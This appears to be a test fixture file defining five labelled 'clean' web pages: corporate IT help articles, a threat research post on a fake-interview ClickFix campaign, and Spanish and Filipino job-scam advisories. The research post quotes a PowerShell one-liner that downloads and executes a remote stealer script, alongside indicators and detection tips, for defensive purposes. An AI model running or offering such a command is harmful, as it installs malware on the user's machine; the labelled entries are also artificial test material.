import type { Entry } from '../entry.js';
import { analytics, cookieBar, cssArticle, cssBase, doc, mark } from '../parts/yr-kit.js';

export const entries: Entry[] = [
  {
    id: 'yr-helpdesk-kb-teams-camera-powershell',
    label: 'clean',
    kind: 'it-help-article',
    url: 'https://help.northwindlogistics.com/kb/KB0012744-camera-not-detected-in-teams',
    body: doc({
      title: 'KB0012744 – Camera not detected in Microsoft Teams | Northwind IT Service Desk',
      css: cssBase + `body{background:#fff}.top{background:#1b4f72;color:#fff;padding:12px 28px;display:flex;align-items:center}.top a{color:#d6e6f2;margin-left:18px;font-size:14px}
.w{max-width:820px;margin:26px auto;padding:0 20px}.cmd{position:relative;background:#0f172a;color:#e2e8f0;border-radius:6px;padding:12px 14px;font-family:Consolas,Menlo,monospace;font-size:13.5px;margin:10px 0}
.cmd button{position:absolute;right:8px;top:8px;padding:4px 10px;font-size:12px;background:#334155}.meta{font-size:13px;color:#66788a}.warn{background:#fff7ed;border-left:4px solid #f97316;padding:10px 14px}`,
      body: `<div class="top"><b>Northwind IT Service Desk</b><span style="margin-left:auto"><a href="/kb">Knowledge base</a><a href="/tickets/new">Open a ticket</a><a href="/status">System status</a></span></div>
<div class="w"><p class="meta">Knowledge article KB0012744 · Applies to: Windows 11 laptops (Dell Latitude 5440/7440) · Updated 2025-09-18 · Audience: employees</p>
<h1>Camera not detected in Microsoft Teams</h1><p>If Teams shows <i>"We can't find a camera"</i> before an interview or meeting, work through these steps. Most issues are fixed by steps 1–2.</p>
<h3>1. Check the privacy shutter and Windows privacy settings</h3><p>Slide the shutter above the screen open. Then open <b>Settings → Privacy &amp; security → Camera</b> and make sure <b>Camera access</b> and <b>Let desktop apps access your camera</b> are on.</p>
<h3>2. Check that Windows sees the camera</h3><p>Open <b>PowerShell</b> (not as administrator) and run:</p>
<div class="cmd"><code id="c1">Get-PnpDevice -Class Camera,Image | Format-Table Status,FriendlyName -AutoSize</code><button data-c="c1">Copy</button></div>
<p>If the status is <b>Error</b> or <b>Unknown</b>, restart the Windows Camera Frame Server (requires your admin elevation through <i>Company Portal → Request admin</i>):</p>
<div class="cmd"><code id="c2">Restart-Service -Name FrameServer -Force</code><button data-c="c2">Copy</button></div>
<h3>3. Reinstall the camera driver from Company Portal</h3><p>Open <b>Company Portal</b>, search for <i>Dell Camera Driver</i> and click <b>Reinstall</b>. Do not download drivers from other websites.</p>
<div class="warn"><b>Security reminder:</b> the Service Desk will never ask you to press Win+R and paste a command from a web page, or to install a "meeting client" sent by someone outside Northwind. Interview and meeting links from external recruiters should open in Teams or your browser only. Report suspicious requests to <a href="mailto:security@northwindlogistics.com">security@northwindlogistics.com</a>.</div>
<p class="meta">Was this article helpful? <a href="#">Yes</a> · <a href="#">No</a></p></div>
<script>document.querySelectorAll('.cmd button').forEach(function(b){b.addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent).then(function(){b.textContent='Copied';setTimeout(function(){b.textContent='Copy'},1500)})})});</script>`,
    }),
  },
  {
    id: 'yr-de-it-hilfe-vpn-dns-flushdns',
    label: 'clean',
    kind: 'it-help-article',
    url: 'https://it-hilfe.kranich-logistik.de/artikel/vpn-verbindung-dns-probleme',
    body: doc({
      title: 'VPN verbunden, aber Personio/DATEV nicht erreichbar – IT-Hilfe Kranich Logistik',
      lang: 'de',
      css: cssArticle + `.k{position:relative}.k button{position:absolute;right:6px;top:6px;font:12px Arial;border:1px solid #ccc;background:#fff;border-radius:4px;padding:3px 8px;cursor:pointer}`,
      body: `<header class="site"><b>IT-Hilfe</b><nav><a href="/">Start</a><a href="/artikel">Artikel</a><a href="/ticket">Ticket erstellen</a></nav></header>
<main class="article"><h1>VPN verbunden, aber interne Seiten nicht erreichbar</h1><p class="byline">IT-Team · zuletzt aktualisiert am 02.10.2025</p>
<p>Nach dem Wechsel ins Homeoffice kommt es vor, dass die FortiClient-VPN-Verbindung steht, aber DATEV, das Intranet oder die Gehaltsabrechnungen nicht laden. Häufig liegt das an einem veralteten DNS-Cache.</p>
<h2>Lösung</h2><ol><li>Öffnen Sie die <b>Eingabeaufforderung</b> (Startmenü → „cmd“).</li><li>Geben Sie folgenden Befehl ein und drücken Sie Enter:</li></ol>
<div class="k"><pre><code id="a">ipconfig /flushdns</code></pre><button onclick="navigator.clipboard.writeText(document.getElementById('a').textContent)">Kopieren</button></div>
<p>Prüfen Sie anschließend, ob der interne DNS-Server verwendet wird:</p><div class="k"><pre><code id="b">nslookup intranet.kranich.local</code></pre><button onclick="navigator.clipboard.writeText(document.getElementById('b').textContent)">Kopieren</button></div>
<p>Die Antwort sollte von <code>10.20.0.53</code> kommen. Falls nicht, trennen Sie die VPN-Verbindung, starten Sie den Laptop neu und verbinden Sie sich erneut.</p>
<blockquote>Wichtig: Die IT wird Sie niemals per Telefon, Teams-Chat oder über eine Webseite auffordern, Befehle in „Ausführen“ (Windows + R) einzufügen. Solche Aufforderungen sind Betrugsversuche – bitte melden Sie sie an it-sicherheit@kranich-logistik.de.</blockquote></main>
<footer class="site">Kranich Logistik GmbH · Interne IT · Impressum</footer>`,
    }),
  },
  {
    id: 'yr-research-blog-fake-interview-campaign-iocs',
    label: 'clean',
    kind: 'security-research-article',
    url: 'https://blog.sentrylabs-research.com/2025/09/fake-interview-clickfix-campaign-targets-job-seekers',
    body: doc({
      title: 'Fake job interviews deliver stealer via ClickFix – Sentry Labs Research',
      css: cssArticle + `table{border-collapse:collapse;font-family:Arial;font-size:13px}td,th{border:1px solid #ddd;padding:5px 8px}`,
      body: `<header class="site"><b>Sentry Labs</b> Research<nav><a href="/">Blog</a><a href="/threat-intel">Threat intel</a><a href="/about">About</a></nav></header>
<main class="article"><h1>Fake job interviews deliver an infostealer via ClickFix</h1><p class="byline">By the Sentry Labs Threat Research team · September 24, 2025</p>
<p>Since July we have tracked a campaign that impersonates recruiters at Web3 and fintech companies. Candidates are invited to a “video interview” on a look-alike platform. The page reports a camera or microphone error and instructs the victim to paste a command into the Run dialog (Windows) or Terminal (macOS).</p>
<h2>Infection chain</h2><ol><li>LinkedIn message from a fake recruiter with a link to <code>interview.talentsync-video[.]com</code>.</li><li>Device-check page writes a PowerShell one-liner to the clipboard using <code>navigator.clipboard.writeText()</code>.</li><li>The one-liner downloads <code>camfix.ps1</code>, which drops a Node.js-based stealer targeting browser wallets.</li></ol>
<p>The Windows command copied by the page looked like this:</p>
<pre><code>powershell -w h -nop -c "$r=iwr -useb https://cdn.talentsync-video[.]com/drv/camfix.ps1;iex $r" # Windows Camera Driver Repair KB5034441</code></pre>
<p>The trailing comment is a social-engineering trick: the Run dialog only shows the end of the line, so the victim sees a harmless-looking “driver repair” label.</p>
<h2>Indicators of compromise</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>talentsync-video[.]com</td></tr><tr><td>Domain</td><td>nexvora-meet[.]io</td></tr><tr><td>SHA-256</td><td>3b9d7c0e5a1f24c8e9d0b6a7f3c2e1d4b5a6978c0d1e2f3a4b5c6d7e8f9a0b1c</td></tr></table>
<h2>Detection</h2><p>Hunt for <code>explorer.exe</code> spawning <code>powershell.exe</code> with <code>-w h</code> and a URL shortly after browser activity. The RunMRU registry key (<code>HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU</code>) keeps a record of pasted commands.</p></main>
<footer class="site">© 2025 Sentry Labs · All research published under CC BY 4.0</footer>`,
    }),
  },
  {
    id: 'yr-es-incibe-ofertas-empleo-fraudulentas',
    label: 'clean',
    kind: 'security-advice-article',
    url: 'https://www.incibe.es/ciudadania/blog/ofertas-de-empleo-fraudulentas-como-detectarlas',
    body: doc({
      title: 'Ofertas de empleo fraudulentas: cómo detectarlas | INCIBE',
      lang: 'es',
      css: cssArticle,
      body: `<header class="site"><b style="color:#c8102e">INCIBE</b><span style="font-family:Arial;font-size:13px">Ciudadanía</span><nav style="margin-left:auto"><a href="/ciudadania/blog">Blog</a><a href="/linea-de-ayuda-en-ciberseguridad">Línea de ayuda 017</a></nav></header>
<main class="article"><h1>Ofertas de empleo fraudulentas: cómo detectarlas</h1><p class="byline">Publicado el 12/09/2025</p>
<p>Los ciberdelincuentes aprovechan la búsqueda de empleo para obtener dinero o datos personales. En los últimos meses hemos recibido consultas sobre ofertas de “reenvío de paquetes desde casa” y cursos de formación obligatorios de pago.</p>
<h2>Ejemplos de mensajes recibidos</h2><blockquote>«¡Felicidades! Has sido seleccionado/a. Para asignarte tu fecha de ingreso es obligatorio abonar el curso de capacitación (850 MXN), reembolsable en tu primera nómina.»</blockquote>
<blockquote>«Recibirás los paquetes en tu domicilio, retirarás las facturas y los reenviarás con la etiqueta prepagada que te enviamos.»</blockquote>
<h2>Señales de alerta</h2><ul><li>Te piden dinero por formación, material o trámites.</li><li>Solicitan tu certificado digital, las claves de tu banca online o fotos de tu DNI antes de firmar un contrato.</li><li>La comunicación es solo por WhatsApp o Telegram y con prisas.</li></ul>
<p>Si tienes dudas, llama gratis al <b>017</b>, la Línea de Ayuda en Ciberseguridad de INCIBE.</p></main>
<footer class="site">Instituto Nacional de Ciberseguridad · León</footer>`,
    }),
  },
  {
    id: 'yr-tl-dmw-advisory-illegal-recruiters',
    label: 'clean',
    kind: 'security-advice-article',
    url: 'https://dmw.gov.ph/advisories/2025/babala-laban-sa-illegal-recruiters-online',
    body: doc({
      title: 'BABALA: Mag-ingat sa mga illegal recruiter online | Department of Migrant Workers',
      lang: 'fil',
      css: cssArticle,
      body: `<header class="site"><b style="color:#0038a8">Department of Migrant Workers</b><nav style="margin-left:auto"><a href="/">Home</a><a href="/advisories">Advisories</a><a href="/verify-license">Verify Agency License</a></nav></header>
<main class="article"><h1>BABALA: Mag-ingat sa mga illegal recruiter online</h1><p class="byline">DMW Advisory No. 41, Series of 2025</p>
<p>Pinapaalalahanan ng DMW ang publiko laban sa mga Facebook page at website na nag-aalok ng trabaho sa Dubai, Saudi Arabia at Europe na may “libreng visa at ticket” ngunit humihingi ng <b>placement o processing fee sa GCash</b>.</p>
<p>Halimbawa ng post na iniulat sa amin:</p><blockquote>“URGENT HIRING DUBAI! Waiter, Housekeeping, Driver. Libreng ticket at visa! Processing fee ₱18,500 lang, bayad via GCash. Online interview lang sa Messenger.”</blockquote>
<h2>Tandaan</h2><ul><li>Ang mga lisensyadong ahensya ay hindi tumatanggap ng bayad sa personal na GCash account.</li><li>Para sa mga household service worker at sa karamihan ng bansa, <b>bawal ang placement fee</b>.</li><li>I-verify ang lisensya ng ahensya sa <a href="/verify-license">dmw.gov.ph/verify-license</a> bago magbigay ng anumang dokumento.</li></ul>
<p>Mag-report sa DMW Anti-Illegal Recruitment Branch: hotline 1348 o email airb@dmw.gov.ph.</p></main>
<footer class="site">Republic of the Philippines · Department of Migrant Workers</footer>`,
    }),
  },
];
